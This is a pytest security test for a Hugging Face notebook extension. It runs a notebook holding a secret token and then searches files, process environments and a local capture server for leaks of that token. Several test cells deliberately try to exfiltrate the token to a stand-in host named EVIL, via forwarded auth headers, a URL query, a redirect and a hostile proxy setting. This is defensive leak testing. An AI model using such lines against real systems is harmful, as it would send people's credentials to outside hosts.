"""A token is let loose in a real notebook that does one of everything; then every byte is searched for it.

Outputs, notebook, history, traces, logs, caches, the Hub's own store and log, the command lines and environments of
processes, and whatever a second host was sent. The same notebook with the redaction (or the gate) taken out must be
caught: a search that finds nothing proves nothing by itself.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import os
import secrets
import string
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import nbformat
import pytest

from hf_nb.offline.running import Running, start
from hf_nb.offline.store import Store

ROOT = Path(__file__).parents[1]
DAY = datetime(2026, 1, 2, tzinfo=UTC)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]

RUN = """
import sys, nbclient, nbformat
from jupyter_client.manager import AsyncKernelManager
from tests.kernels import OfThisInterpreter

notebook = nbformat.read(sys.argv[1], as_version=4)
manager = AsyncKernelManager(kernel_spec_manager=OfThisInterpreter())
where = {"metadata": {"path": sys.argv[2]}}
nbclient.NotebookClient(notebook, km=manager, timeout=120, allow_errors=True, resources=where,
    ipython_hist_file=sys.argv[3]).execute()
nbformat.write(notebook, sys.argv[1])
"""

DEBUG_LOG = """
import logging, os
logging.basicConfig(level=logging.DEBUG, filename='debug.log', force=True)
import huggingface_hub
huggingface_hub.logging.set_verbosity_debug()
"""
HEADERS_ELSEWHERE = """
from huggingface_hub.utils import build_hf_headers
huggingface_hub.get_session().get(EVIL, headers=build_hf_headers())
"""
MOVED = """
moved = {'location': EVIL + '/moved'}
with http.fault('status', status=302, headers=moved, match='*/resolve/*', count=1):
    huggingface_hub.hf_hub_download('owner/secret', 'other.txt', force_download=True)
"""
THROUGH_A_PROXY = """
huggingface_hub.close_session()
os.environ['HTTPS_PROXY'] = EVIL
huggingface_hub.HfApi(endpoint='https://huggingface.co').whoami()
"""
# cell -> whether it must work, must fail, or may do either
WORKS, FAILS, EITHER = "works", "fails", "either"
CELLS: list[tuple[str, str]] = [
    (DEBUG_LOG, WORKS),
    ("%load_ext hf_nb", WORKS),
    ("import hf_nb\nfrom hf_nb.plumbing import http\nt = huggingface_hub.get_token()", WORKS),
    ("%hf whoami", WORKS),
    ("%hf whoami --json", WORKS),
    ("%hf tokens", WORKS),
    ("%hf search models secret", WORKS),
    ("%hf search models {t}", FAILS),
    ("%hf info owner/secret", WORKS),
    ("%hf info owner/secret --json", WORKS),
    ("%hf info {t}", FAILS),
    ("%hf info owner/{t}", FAILS),
    ("%hf tb", WORKS),
    ("hf_nb.info(t)", FAILS),
    ("%hf info owner/secrte", FAILS),
    ("%hf pull owner/secret", WORKS),
    ("%hf pull owner/gated", WORKS),
    ("open('note.txt', 'w').write('plain')\n%hf push owner/made note.txt", WORKS),
    ("open('.secret', 'w').write(t)\n%hf push owner/made .secret", FAILS),
    ("os.remove('.secret')", WORKS),
    ("%hf log owner/made", WORKS),
    ("%hf refs owner/made", WORKS),
    ("%hf push owner/{t} note.txt", FAILS),
    ("%hf discuss owner/secret", EITHER),
    ("%hf cache status", WORKS),
    ("%hf limits", WORKS),
    ("%hf settings", WORKS),
    ("%hf settings --json", WORKS),
    ("%hf settings read_timeout=20 --save", WORKS),
    ("%hf settings {t}=1", FAILS),
    ("%hf doctor", WORKS),
    ("%hf auth list", EITHER),
    ("%hf auth whoami", EITHER),
    ("%hf auth token", EITHER),
    ("%hf env", EITHER),
    ("%hf models ls --search secret", EITHER),
    ("%hf models ls --search {t}", FAILS),
    ("%hf models info owner/secret", EITHER),
    ("%xmode Verbose", WORKS),
    ("with http.fault('status', status=500, match='*/whoami*'):\n    hf_nb.whoami()", FAILS),
    ("%tb", EITHER),
    ("with http.fault('cut', match='*/api/models/*'):\n    hf_nb.info('owner/secret')", EITHER),
    ("%hf tb", EITHER),
    ("%xmode Context", WORKS),
    ("raise hf_nb.errors.BadInput(f'what was {t}', f'login with {t}')", FAILS),
    ("print(hf_nb.errors.NotFound(t))", WORKS),
    ("hf_nb.settings().endpont = t", FAILS),
    ("os.environ.setdefault('COPY', t)\n%hf login again --from-env COPY", WORKS),
    ("%hf tokens use again", WORKS),
    ("%hf last --json", EITHER),
    # the second host
    ("from huggingface_hub import InferenceClient\nInferenceClient(EVIL).text_classification('x')", FAILS),
    ("huggingface_hub.HfApi(endpoint=EVIL).model_info('owner/secret')", FAILS),
    (HEADERS_ELSEWHERE, FAILS),
    ("huggingface_hub.get_session().get(EVIL + '?key=' + t)", FAILS),
    (MOVED, EITHER),
    ("huggingface_hub.get_session().get(EVIL + '/plain').status_code", WORKS),
    (THROUGH_A_PROXY, FAILS),
    ("del os.environ['HTTPS_PROXY']\nhuggingface_hub.close_session()", WORKS),
    ("%hf logout --all", WORKS),
]
# Enough of them to show what is missing.
TELLING = {
    DEBUG_LOG,
    "%load_ext hf_nb",
    "import hf_nb\nfrom hf_nb.plumbing import http\nt = huggingface_hub.get_token()",
    "%hf info owner/{t}",
    "raise hf_nb.errors.BadInput(f'what was {t}', f'login with {t}')",
    "huggingface_hub.HfApi(endpoint=EVIL).model_info('owner/secret')",
    HEADERS_ELSEWHERE,
}
WITHOUT_REDACTION = """
from hf_nb import errors
from hf_nb.plumbing import redact
redact.text = redact.tokens = errors.clean = lambda text, *_: text
redact.tree = lambda value, *_: value
"""
WITHOUT_GATE = """
from hf_nb.plumbing.transports import gate
gate._carries_hub_token = lambda request: False
"""


class Second(http.server.BaseHTTPRequestHandler):
    """Another host: keeps all that it is sent, whatever the method."""

    seen: list[str]

    def answer(self) -> None:
        """Everything gets the same."""
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.seen.append(f"{self.requestline}\n{self.headers}\n{body!r}")
        self.send_response(404)
        self.send_header("content-length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_PUT = do_CONNECT = answer  # noqa: N815 -- the library's names

    def log_message(self, *_: object) -> None:
        """Silent."""


@pytest.fixture
def second() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Handler", (Second,), {"seen": seen}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()


@dataclass
class Trial:
    """One notebook run, and where everything went."""

    hub: Running
    folder: Path
    token: str
    second: str
    kept_in: str
    processes: dict[int, tuple[str, bool]] = field(default_factory=dict)

    @property
    def notebook(self) -> Path:
        """What was saved."""
        return self.folder / "work" / "everything.ipynb"

    @property
    def home(self) -> Path:
        """HF_HOME."""
        return self.folder / "hf-home"

    def run(self, first: str = "", cells: Sequence[tuple[str, str]] = CELLS) -> list[str]:
        """The notebook from top to bottom; the cells that went otherwise than they must."""
        cells = [(f"{first}\nEVIL = {self.second!r}", WORKS), *cells]
        self.notebook.parent.mkdir(parents=True)
        nbformat.write(
            nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell, _ in cells]),
            self.notebook,
        )
        log = (self.folder / "runner.log").open("wb")
        history = str(self.folder / "history.sqlite")
        command = [sys.executable, "-c", RUN, str(self.notebook), str(self.notebook.parent), history]
        with (
            log,
            subprocess.Popen(command, env=self.environment(), cwd=ROOT, stdout=log, stderr=log) as running,
        ):
            while running.poll() is None:
                self._look(running.pid)
            assert running.returncode == 0, (self.folder / "runner.log").read_text()
        saved = nbformat.read(self.notebook, as_version=4).cells
        return [
            f"{cell}: {_error(ran) or 'worked'}"
            for (cell, must), ran in zip(cells, saved, strict=True)
            if must != EITHER and (must == FAILS) != bool(_error(ran))
        ]

    def environment(self) -> dict[str, str]:
        """Everything that is written goes below one folder."""
        folders = {
            name: str(self.folder / name.lower())
            for name in (
                "HOME", "TMPDIR", "IPYTHONDIR", "JUPYTER_DATA_DIR", "JUPYTER_CONFIG_DIR", "JUPYTER_RUNTIME_DIR",
                "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME",
                "HF_NB_CONFIG_DIR", "HF_NB_DATA_DIR", "HF_NB_CACHE_DIR",
            )
        }  # fmt: skip
        for folder in folders.values():
            Path(folder).mkdir(mode=0o700)
        self.home.mkdir(mode=0o700)
        held = {"HF_TOKEN": self.token, "COPY": self.token} if self.kept_in == "variable" else {}
        if not held:
            (self.home / "token").write_text(self.token)
            (self.home / "stored_tokens").write_text(f"[mine]\nhf_token = {self.token}\n")
        return {
            **os.environ, **self.hub.environment, **folders, **held,
            "HF_HOME": str(self.home), "HF_DEBUG": "1", "HF_NB_DEADLINE": "3", "PYTHONPATH": str(ROOT),
        }  # fmt: skip

    def _look(self, pid: int) -> None:
        """Command lines and environments, as anybody on this machine could read them."""
        for process in descendants(pid):
            with contextlib.suppress(OSError):
                words, environment = (
                    (process / name).read_bytes().replace(b"\0", b" ") for name in ("cmdline", "environ")
                )
                self.processes[int(process.name)] = (words.decode(), self.token.encode() in environment)
        time.sleep(0.1)

    def found(self) -> list[str]:
        """Every place below the folder, and in the Hub's, where the token stands; its own two files excepted."""
        body = self.token[3:].encode()  # cut at its signs it is as good as whole
        marks = [body, base64.b64encode(b"hf_" + body)[:-3]]
        own = {self.home / "token", self.home / "stored_tokens"}
        places = [path for root in (self.folder, self.hub.root) for path in root.rglob("*") if path.is_file()]
        read = {path: path.read_bytes() for path in places if path not in own}
        assert any(path.name == "history.sqlite" for path in read), "IPython kept its history"
        assert any(path.suffix == ".jsonl" for path in read), "spans were written"
        assert any(path.name == "debug.log" and raw for path, raw in read.items()), "logs were written"
        return [str(path) for path, raw in read.items() if any(mark in raw for mark in marks)]


def _error(cell: Any) -> str:
    return next(
        (f"{one.ename}: {one.evalue[:300]}" for one in cell.outputs if one.output_type == "error"), ""
    )


def descendants(pid: int) -> list[Path]:
    """A process's children and theirs, where the system shows them as files."""
    found: list[Path] = []
    for children in Path(f"/proc/{pid}/task").glob("*/children"):
        with contextlib.suppress(OSError):
            for child in children.read_text().split():
                found += [Path("/proc") / child, *descendants(int(child))]
    return found


@pytest.fixture
def trial(request: pytest.FixtureRequest, tmp_path: Path, second: tuple[str, list[str]]) -> Iterator[Trial]:
    token = "hf_" + "".join(secrets.choice(string.ascii_letters) for _ in range(34))
    store = Store.open(tmp_path / "hub" / "store")
    store.user("owner", token)
    for name in ("secret", "gated"):
        store.create_repo("model", f"owner/{name}", private=name == "secret", created_at=DAY)
        files = {"README.md": b"# A model\n", "other.txt": b"other"}
        store.commit("model", f"owner/{name}", files, title="one", author="owner", date=DAY)
    store.close()
    (tmp_path / "run").mkdir()
    with start(tmp_path / "hub" / "store") as hub:
        yield Trial(hub, tmp_path / "run", token, second[0], getattr(request, "param", "variable"))


@pytest.mark.parametrize("trial", ["variable", "file"], indirect=True)
def test_a_token_stands_nowhere_it_should_not(trial: Trial, second: tuple[str, list[str]]) -> None:
    wrong = trial.run()
    assert trial.found() == []
    seen = second[1]
    assert any("/plain" in one for one in seen), "the second host was reached"
    assert any(one.startswith("CONNECT huggingface.co") for one in seen), "and asked to be a proxy"
    assert not any(trial.token in one for one in seen)
    assert not any(trial.token in str(one) for one in trial.hub.requests())
    assert trial.processes or not Path("/proc/self/task").exists()
    assert not any(trial.token in words for words, _ in trial.processes.values())
    assert trial.kept_in == "variable" or not any(leaked for _, leaked in trial.processes.values())
    assert wrong == []


def test_without_redaction_and_gate_it_would_be_found(trial: Trial, second: tuple[str, list[str]]) -> None:
    trial.run(WITHOUT_REDACTION + WITHOUT_GATE, [one for one in CELLS if one[0] in TELLING])
    found = trial.found()
    assert any(path.endswith("everything.ipynb") for path in found)
    assert any(path.endswith(".jsonl") for path in found)
    assert sum(trial.token in one for one in second[1]) >= 2
